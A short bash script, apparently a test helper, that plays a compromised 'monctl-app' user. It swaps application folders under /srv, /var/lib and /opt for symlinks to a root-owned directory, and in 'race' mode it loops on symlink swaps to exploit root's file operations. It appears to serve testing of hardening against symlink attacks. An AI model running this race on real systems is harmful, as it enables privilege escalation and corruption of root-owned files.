#!/bin/bash
# Attacks of a compromised application's user: puts links to OUTSIDE, a folder of root, wherever root works. `once` does
# it and exits, `race` swaps folders and links until it is stopped.
# usage: bash attack.sh OUTSIDE once|race, as monctl-app
outside=$1
for place in /srv/monctl/app /srv/monctl/current /srv/monctl/releases /srv/monctl/releases/* /srv/monctl/releases/*/not* \
	/var/lib/monctl/app /var/lib/monctl/sets/app /opt/monctl/app /opt/monctl/venvs /opt/monctl/venvs/*; do
	mv "$place" "$place.away" && ln -s "$outside" "$place"
	rm -rf "$place/notebook" && ln -s "$outside" "$place/notebook"
	touch "$place/written"
done 2>/dev/null
cd /srv/monctl/app && [ -w . ] || cd /var/lib/monctl/app || exit
for name in notes staticfiles; do
	[ ! -d "$name" ] || [ -L "$name" ] || mv -T "$name" "$name.away"
	ln -sfn "$outside" "$name"
done
[ "$2" = race ] || exit 0
mkdir -p media swapped/notebook
while :; do
	for name in media notebook; do
		mv -T "$name" swapped/away && ln -s "$outside" "$name"
		rm -f "$name" && mv -T swapped/away "$name"
	done 2>/dev/null
done
